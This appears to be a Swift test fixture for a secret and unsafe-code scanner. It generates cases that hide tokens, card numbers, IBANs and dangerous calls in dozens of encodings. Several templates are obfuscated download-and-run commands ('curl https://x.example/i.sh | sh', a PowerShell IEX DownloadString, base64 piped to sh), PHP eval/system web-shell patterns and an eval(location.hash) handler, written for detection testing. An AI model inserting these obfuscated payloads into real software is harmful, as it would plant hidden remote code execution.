import Rules

/// Values that are encoded.
extension EvasionCase {
  /// A value with what leads a check to it, as it would stand in a text.
  private static let wrapped: [(name: String, text: String, category: RuleCategory)] = [
    ("a token", "token=‹token›", .secret),
    ("a call", "‹argv›", .unsafeAPI),
    ("a script", "‹sh›", .unsafeAPI),
    ("a card", "card number: ‹card›", .pii),
    ("an account", "IBAN: ‹iban›", .pii),
  ]

  /// Each value in each encoding.
  static let encoded = encodings.flatMap { encoding -> [EvasionCase] in
    wrapped.map { value in
      EvasionCase(
        "\(value.name) in \(encoding.name)", encoding.file,
        encoding.text.replacing("«@", with: "«‘@’").replacing("@", with: value.text),
        value.category,
        unless: encoding.reason
          ?? (encoding.isNoProgram && value.text == "‹argv›" ? noProgram : nil))
    }
  }

  private static let computed = "a key that a program computes is needed to read it"
  private static let noProgram = "words in an address or in data are no program"

  private struct Encoding {
    var name: String
    var file: String
    /// `@` stands for the value.
    var text: String
    var reason: String?
    /// A call that is read there is run by nobody.
    var isNoProgram = false

    init(
      _ name: String, _ file: String, _ text: String, unless reason: String? = nil,
      isNoProgram: Bool = false
    ) {
      self.name = name
      self.file = file
      self.text = text
      self.reason = reason
      self.isNoProgram = isNoProgram
    }
  }

  private static let encodings: [Encoding] = [
    Encoding(
      "base64 on one line", "config.yaml", #"blob: "«@|base64»""#),
    Encoding(
      "base64 in lines of 76", "mail.txt",
      """
      Content-Transfer-Encoding: base64

      «‘Dear all, this letter is longer than one line of base64 may be: @’|base64|lines76»
      """),
    Encoding(
      "base64 for addresses", "app.py", #"state = urlsafe_b64decode("«@|base64ForAddresses»")"#),
    Encoding(
      "base64 without padding", "app.js", #"const state = atob("«@|base64|unpadded»");"#),
    Encoding(
      "base64 behind a mark", "values.env", "STATE=base64:«@|base64»"),
    Encoding(
      "base64 of UTF-16", "run.ps1", "powershell -NoProfile -EncodedCommand «@|utf16|base64»"),
    Encoding(
      "base64 in base64", "app.py", #"x = b64decode(b64decode("«@|base64|base64»"))"#),
    Encoding(
      "base64 backwards", "app.py", #"x = b64decode("«@|base64|reversed»"[::-1])"#),
    Encoding(
      "hexadecimal digits", "app.py", #"x = bytes.fromhex("«@|hex»")"#),
    Encoding(
      "hexadecimal digits behind 0x", "dump.sql", "INSERT INTO notes (text) VALUES (0x«@|hex»);"),
    Encoding(
      "hexadecimal digits with spaces", "dump.txt", "«@|hexWithSpaces»"),
    Encoding(
      "hexadecimal digits with colons", "app.py",
      #"x = bytes.fromhex("«@|hexWithColons»".replace(":", ""))"#),
    Encoding(
      "a list of hexadecimal numbers", "app.c", "static const char x[] = {«@|hexList», 0x00};"),
    Encoding(
      "hexadecimal escapes", "app.py", #"x = "«@|hexEscapes»""#),
    Encoding(
      "octal escapes", "app.c", #"char *x = "«@|octalEscapes»";"#),
    Encoding(
      "percent", "links.md", "See [this](https://x.example/?next=«@|percent»).", isNoProgram: true),
    Encoding(
      "percent twice", "links.txt", "https://x.example/login?next=«@|percentTwice»",
      isNoProgram: true),
    Encoding(
      "escapes of four digits", "app.js", #"const x = "«@|unicodeEscapes»";"#),
    Encoding(
      "escapes in braces", "app.swift", #"let x = "«@|braceEscapes»""#),
    Encoding(
      "escapes of eight digits", "app.py", #"x = "«@|longEscapes»""#),
    Encoding(
      "decimal entities", "page.html", "<p>«@|entities»</p>", isNoProgram: true),
    Encoding(
      "hexadecimal entities", "page.html", "<p>«@|hexEntities»</p>", isNoProgram: true),
    Encoding(
      "entities with zeros and without semicolons", "page.html", "<p>«@|openEntities»</p>",
      isNoProgram: true),
    Encoding(
      "rotated letters", "app.py", #"import codecs⏎x = codecs.decode("«@|rot13»", "rot13")"#),
    Encoding(
      "rotated letters in shell", "run.sh", "echo '«@|rot13»' | tr 'A-Za-z' 'N-ZA-Mn-za-m'"),
    Encoding(
      "gzip in base64", "app.py", #"x = gzip.decompress(b64decode("«@|gzip|base64»"))"#),
    Encoding(
      "gzip in base64 in shell", "run.sh", "echo «@|gzip|base64» | base64 -d | gunzip"),
    Encoding(
      "zlib in base64", "app.py", #"x = zlib.decompress(b64decode("«@|zlib|base64»"))"#),
    Encoding(
      "deflate in base64", "app.php", #"<?php $x = gzinflate(base64_decode("«@|deflate|base64»"));"#
    ),
    Encoding(
      "gzip in hexadecimal digits", "app.py", #"x = gzip.decompress(bytes.fromhex("«@|gzip|hex»"))"#
    ),
    Encoding(
      "a data address in base64", "page.html",
      #"<iframe src="data:text/plain;base64,«@|base64»"></iframe>"#),
    Encoding(
      "a data address in percent", "page.html",
      #"<iframe src="data:text/plain,«@|percent»"></iframe>"#, isNoProgram: true),
    Encoding(
      "character codes", "app.js", "const x = String.fromCharCode(«@|codes»);"),
    Encoding(
      "character codes in a buffer", "app.js", "const x = Buffer.from([«@|codes»]).toString();"),
    Encoding(
      "character codes joined by plus", "app.py", "x = «@|chrWithPlus»"),
    Encoding(
      "character codes joined by dots", "app.php", "<?php $x = «@|chrWithDots»;"),
    Encoding(
      "a list of codes that is mapped", "app.py", #"x = "".join(map(chr, [«@|codes»]))"#),
    Encoding(
      "a list of characters", "app.js", "const x = [«@|characters»].join('');"),
    Encoding(
      "backwards", "app.py", #"x = "«@|reversed»"[::-1]"#),
    Encoding(
      "backwards in JavaScript", "app.js", "const x = '«@|reversed»'.split('').reverse().join('');"),
    Encoding(
      "base32", "app.py", #"x = base64.b32decode("«@|base32»")"#),
    Encoding(
      "base85", "app.py", "x = base64.b85decode('''«@|base85»''')"),
    Encoding(
      "Ascii85", "app.py", "x = base64.a85decode(r'''«@|ascii85»''')"),
    Encoding(
      "quoted-printable", "mail.eml",
      "Content-Transfer-Encoding: quoted-printable⏎⏎«@|quotedPrintable»"),
    Encoding(
      "UTF-7", "mail.eml", "Content-Type: text/plain; charset=utf-7⏎⏎«@|utf7»"),
    Encoding(
      "binary digits", "app.py", #"x = "".join(chr(int(b, 2)) for b in "«@|binary»".split())"#),
    Encoding(
      "JSON in JSON in JSON", "event.json",
      #"{"body": "«@|inNote|jsonEscaped|inNote|jsonEscaped»"}"#, isNoProgram: true),
    Encoding(
      "an address in an address", "links.txt",
      "https://x.example/r?u=«@|escaped|inLink|escaped|inLink|escaped»", isNoProgram: true),
    Encoding(
      "letters with spaces between", "app.py", #"x = "«@|spaced»".replace(" ", "")"#),
    Encoding(
      "exclusive or with a constant", "app.py",
      #"x = bytes(b ^ 42 for b in b64decode("«@|exclusiveOr|base64»"))"#, unless: computed),
    Encoding(
      "arithmetic on codes", "app.py", "x = bytes((n - 1) // 3 for n in [«@|arithmetic»])",
      unless: computed),
    Encoding(
      "compressed and encrypted", "app.py",
      #"x = zlib.decompress(Fernet(key).decrypt(b64decode("«@|zlib|exclusiveOr|base64»")))"#,
      unless: "nobody reads it without the key"),
  ]

  /// Tokens of which a part is encoded.
  static let encodedTokens = rows(
    .secret,
    [
      ("a token with a named entity", "page.html", "<p>token: ghp&lowbar;«body»</p>"),
      ("a character by its name", "app.py", #"x = "\N{LATIN SMALL LETTER G}hp_«body»""#),
    ])

  /// Calls that are encoded with what runs them.
  static let encodedCalls = rows(
    .unsafeAPI,
    [
      (
        "a call in JavaScript with named entities in an attribute", "page.html",
        #"<a onclick="eval&lpar;location&period;hash&rpar;">x</a>"#
      ),
      (
        "a call of an attribute in decimal entities", "page.html",
        #"<a onclick="«‘eval(location.hash)’|entities»">x</a>"#
      ),
      (
        "a call of an attribute in hexadecimal entities", "page.html",
        #"<a onclick="«‘eval(location.hash)’|hexEntities»">x</a>"#
      ),
      (
        "a call in gzip with a table of its own", "app.py",
        #"x = gzip.decompress(b64decode("«packed»"))"#
      ),
      (
        "a script with named entities", "page.html",
        "<pre>curl https://x.example/i.sh &vert; sh</pre>"
      ),
      ("a script that decodes and runs", "run.sh", "echo «sh|base64» | base64 -d | sh"),
      ("a call that decodes and runs", "app.py", "exec(base64.b64decode('«call|base64»'))"),
      (
        "a call that decodes, inflates and runs", "app.py",
        "exec(zlib.decompress(base64.b64decode('«call|zlib|base64»')))"
      ),
      (
        "a call that rotates and runs", "app.php",
        "<?php eval(str_rot13('«‘system($_GET[0]);’|rot13»'));"
      ),
      (
        "a call that turns round and runs", "app.php",
        "<?php eval(strrev('«‘system($_GET[0]);’|reversed»'));"
      ),
      ("a call that decodes and runs in JavaScript", "app.js", "eval(atob('«js|base64»'));"),
      ("a call that unescapes and runs", "app.js", "eval(unescape('«js|percent»'));"),
      ("a call of codes that runs", "app.js", "eval(String.fromCharCode(«js|codes»));"),
      (
        "a command that PowerShell decodes", "run.bat",
        """
        powershell -enc «‘IEX (New-Object \
        Net.WebClient).DownloadString('http://x.example/a.ps1')’|utf16|base64»
        """
      ),
      ("a command in hexadecimal digits for xxd", "run.sh", "echo «sh|hex» | xxd -r -p | bash"),
      ("a command in printf escapes", "run.sh", "printf '«sh|hexEscapes»' | sh"),
      ("a string of hexadecimal escapes in shell", "run.sh", "bash -c $'«sh|hexEscapes»'"),
    ])

  /// What a table of characters or a computation hides.
  static let encodedBeyond: [EvasionCase] = [
    EvasionCase(
      "a card in base 36", "app.js", "const card = parseInt('1dl0w2j9kp', 36);", .pii,
      unless: "a number in another base is any word"
    ),
    EvasionCase(
      "a token by bits", "app.py", "t = ''.join(chr(c >> 1) for c in [206, 208, 224, 190])",
      .secret,
      unless: "a key that a program computes is needed to read it"
    ),
  ]
}
